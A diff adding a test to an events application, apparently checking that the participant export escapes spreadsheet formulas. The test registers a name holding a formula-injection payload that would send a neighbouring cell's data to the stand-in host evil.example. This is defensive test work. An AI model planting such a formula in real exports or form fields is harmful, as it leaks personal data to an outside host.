@@ -335,3 +335,17 @@ def test_organiser_attaches_the_standard_registration_questions(
     assert registration.answers == {"access_needs": ["step_free", "captions"], "diet": "vegan"}
     export = coordinator.get(reverse("events:participants_export", args=[event.pk]))
     assert "step_free; captions" in export.content.decode()
+
+
+def test_participant_export_never_hands_over_a_formula(login, personas, make_event, register_many):
+    event = make_event()
+    from echos.events import services
+
+    services.register(
+        event=event,
+        name='=HYPERLINK("http://evil.example/?"&A2,"x")',
+        email="formula@example.invalid",
+        consent=True,
+    )
+    export = login(personas["coord_no"]).get(reverse("events:participants_export", args=[event.pk]))
+    assert "'=HYPERLINK(" in export.content.decode()
